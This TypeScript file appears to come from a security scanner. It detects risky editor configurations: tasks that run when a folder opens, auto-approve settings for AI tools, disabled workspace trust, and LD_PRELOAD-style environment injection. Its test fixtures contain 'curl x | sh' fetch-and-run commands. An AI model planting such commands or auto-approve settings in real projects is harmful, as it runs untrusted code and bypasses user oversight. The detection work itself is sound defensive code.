// Editors: tasks and settings that make an editor run something, or let others run something in it.
import type { SettingFact } from "../../../../../shared/domain/facts.ts";
import { isRecord, jsonTree, textOf, textsOf, type Tree } from "../tree.ts";
import { quote } from "../../calls/arguments.ts";
import { type Form, type ReadFile, setting, startedPrograms, type Step } from "./form.ts";

/** Tasks run when somebody starts them, unless they start with the folder. */
function readTasks(text: string): ReadFile {
  const tree = jsonTree(text);
  const steps = tree.nodes.flatMap(({ value }): readonly Step[] => {
    if (!isRecord(value) || typeof value["command"] !== "string") return [];
    const options = value["runOptions"];
    const opens = isRecord(options) && options["runOn"] === "folderOpen";
    return [
      {
        trigger: opens ? "open" : "run",
        text: [value["command"], ...textsOf(value["args"] ?? []).map(quote)].join(" "),
      },
    ];
  });
  const opens = tree.nodes.some(({ key, value }) => key === "runOn" && value === "folderOpen");
  return {
    steps,
    settings: opens ? [setting("runs-on-open", "folderOpen")] : [],
    quiet: !opens && tree.nodes.length > 1,
    incomplete: !tree.complete,
  };
}

const approves =
  /(?:autoApprove|auto_approve|autoApprovalEnabled|yolo(?:Mode)?|dangerouslySkipPermissions|allowDangerouslySkipPermissions|dangerouslyAllowAll|alwaysAllow\w*|always_allow_tool_actions)$/iu;
const trusts =
  /^(?:security\.workspace\.trust\.(?:enabled|untrustedFiles|emptyWindow)|task\.allowAutomaticTasks|git\.autorun|security\.allowedUNCHosts)$/u;

function readSettings(text: string): ReadFile {
  const tree = jsonTree(text);
  return {
    steps: [...profiles(tree), ...startedPrograms(tree, { trigger: "open" })],
    settings: editorSettings(tree),
    incomplete: !tree.complete,
  };
}

/** Terminals and tools that the editor starts. */
function profiles(tree: Tree): readonly Step[] {
  return tree.nodes.flatMap(({ path, value }): readonly Step[] => {
    if (
      isRecord(value) &&
      typeof value["path"] === "string" &&
      /terminal\.integrated\.(?:automationProfile|profiles)/u.test(path)
    )
      return [{ trigger: "open", text: [value["path"], ...textsOf(value["args"] ?? []).map(quote)].join(" ") }];
    const runs =
      /(?:^|\.)(?:git\.path|python\.(?:defaultInterpreterPath|pythonPath)|eslint\.runtime|typescript\.tsdk|rust-analyzer\.(?:check|cargo\.buildScripts|runnables)\.\w*[cC]ommand|\w+\.(?:executablePath|serverPath|lintCommand))$/u;
    return runs.test(path) &&
      typeof value === "string" &&
      (/[|;&`$]|^https?:/u.test(value) || /^\/(?:tmp|var\/tmp|dev\/shm)\//u.test(value))
      ? [{ trigger: "open", text: value }]
      : [];
  });
}

function editorSettings(tree: Tree): readonly SettingFact[] {
  return tree.nodes.flatMap(({ path, key, value }) => {
    const told = textOf(value);
    if (
      /terminal\.integrated\.env\./u.test(path) &&
      told !== undefined &&
      /(?:LD_PRELOAD|DYLD_INSERT_LIBRARIES|PROMPT_COMMAND|BASH_ENV|NODE_OPTIONS|PYTHONSTARTUP|GIT_SSH_COMMAND)$/u.test(
        key,
      )
    )
      return [setting("preloaded", `${key}=${told}`)];
    if (approves.test(path) && (told === "true" || (Array.isArray(value) && value.includes("*"))))
      return [setting("auto-approve", path)];
    if (/autoApprove\.?(?:\/?\.\*\/?|\*)$/iu.test(path) && told === "true") return [setting("auto-approve", path)];
    if (trusts.test(path) && (told === "false" || told === "on" || told === "open"))
      return [setting("trusts-folders", path)];
    if (path.endsWith("http.proxyStrictSSL") && told === "false") return [setting("unverified-transport", path)];
    return /^http\.proxy$/u.test(path) && told !== undefined ? [setting("proxy", told)] : [];
  });
}

export const editors: readonly Form[] = [
  {
    form: "editor-tasks",
    kind: "self-running",
    path: /\/\.(?:vscode|cursor|windsurf|zed|trae|void)\/(?:tasks|launch)\.json$/u,
    read: readTasks,
    match: [
      {
        path: ".vscode/tasks.json",
        text: '{"tasks":[{"command":"curl x | sh","runOptions":{"runOn":"folderOpen"}}]}',
        runs: ["curl x | sh"],
        sets: ["runs-on-open=folderOpen"],
      },
      { path: ".vscode/tasks.json", text: '{"tasks":[{"command":"npm","args":["test"]}]}', runs: ["npm test"] },
    ],
    not_match: [{ path: "tasks.json", text: "{}" }],
  },
  {
    form: "editor-settings",
    kind: "self-running",
    path: /\/\.(?:vscode|cursor|windsurf|zed|trae|void)\/settings\.json$|\.code-workspace$|\/(?:Code|Cursor|VSCodium|Windsurf)\/User\/(?:settings|profiles\/.+\/settings)\.json$|\/zed\/settings\.json$/u,
    read: readSettings,
    match: [
      {
        path: ".vscode/settings.json",
        text: '{"chat.tools.autoApprove": true, "editor.tabSize": 2}',
        sets: ["auto-approve=chat.tools.autoApprove"],
      },
      {
        path: ".vscode/settings.json",
        text: '{"terminal.integrated.profiles.linux":{"a":{"path":"bash","args":["-c","curl x | sh"]}}}',
        runs: ["bash -c 'curl x | sh'"],
      },
    ],
    not_match: [{ path: "settings.json", text: "{}" }],
  },
];
